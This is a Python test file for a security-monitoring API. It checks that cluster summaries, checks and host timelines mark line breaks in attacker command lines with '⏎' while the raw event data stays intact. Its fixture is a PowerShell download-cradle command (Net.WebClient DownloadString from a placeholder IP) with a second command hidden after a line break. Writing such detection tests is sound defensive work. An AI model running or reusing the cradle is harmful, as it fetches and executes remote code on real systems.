"""The API's one-line texts mark a line break in attacker text with ``⏎`` (review U5, task PAGE).

A command line with a second line (a hidden second command) read, in the cluster's summary, its
checks and the host timeline, as one line with a space where the break was
(``graphsiem.visible_text.visible`` folded it), while the page showed ``⏎`` for the same break in
the members.  The server's texts now carry the mark and a space, never a real break; a ``⏎`` in
the data itself is written ``\\u23ce``; the data fields (members, entity values, the raw event)
keep the command as it was.  Through ``POST /v1/events`` and a real detection, on both stores.
"""

from __future__ import annotations

from typing import Any

from tests.api.conftest import Api
from tests.web.conftest import RARE_HOSTS, rare_command_events

COMMAND = "powershell.exe -nop -c \"$u='http://203.0.113.9/a'\r\n$w=New-Object Net.WebClient\n$w.DownloadString($u) ⏎ fake\""
MARKED = "$u='http://203.0.113.9/a'⏎ $w=New-Object Net.WebClient⏎"
WHOLE = MARKED + " $w.DownloadString($u) \\u23ce fake"


def _one_line(text: str) -> None:
    assert "\n" not in text and "\r" not in text and "\\u000a" not in text, text


def _rare_cluster(api: Api) -> dict[str, Any]:
    answer = api.post("/v1/events", role="ingest", json=rare_command_events(COMMAND))
    assert answer.status_code == 200 and answer.json()["rejected"] == 0, answer.text
    api.ctx.ingest.catch_up()
    assert api.detect()["status"] == "done"
    listed = api.get("/v1/clusters", role="analyst").json()["items"]
    [cluster] = [c for c in listed if sorted(c["hosts"]) == RARE_HOSTS]
    return api.get(f"/v1/clusters/{cluster['id']}", role="analyst").json() | {"listed_summary": cluster["summary"]}


def test_the_summary_and_checks_mark_the_breaks_and_the_data_keeps_them(api: Api) -> None:
    cluster = _rare_cluster(api)

    for text in (cluster["listed_summary"], cluster["summary"], cluster["explanation"]["summary"]):
        assert MARKED in text, text
        _one_line(text)
    quoting = [c["check"] for c in cluster["explanation"]["checks"] if "Net.WebClient" in c["check"]]
    assert quoting, cluster["explanation"]["checks"]
    for text in quoting:
        assert MARKED in text, text
        _one_line(text)
    # the data is the attacker's command as it ran, breaks and ⏎ included
    assert [m["value"] for m in cluster["members"] if m["type"] == "process"] == [COMMAND]


def test_the_timeline_and_evidence_summaries_mark_the_breaks_and_code_the_datas_own_mark(api: Api) -> None:
    cluster = _rare_cluster(api)

    timeline = api.get(f"/v1/entities/host/{RARE_HOSTS[0]}/events", role="analyst").json()["items"]
    [row] = [r for r in timeline if "DownloadString" in r["summary"]]
    assert row["summary"].startswith("powershell.exe -nop -c \"" + WHOLE + "\""), row["summary"]
    _one_line(row["summary"])
    summaries = [e["event"]["summary"] for e in cluster["evidence"] if "DownloadString" in e["event"].get("summary", "")]
    assert summaries and all(WHOLE in s for s in summaries), summaries
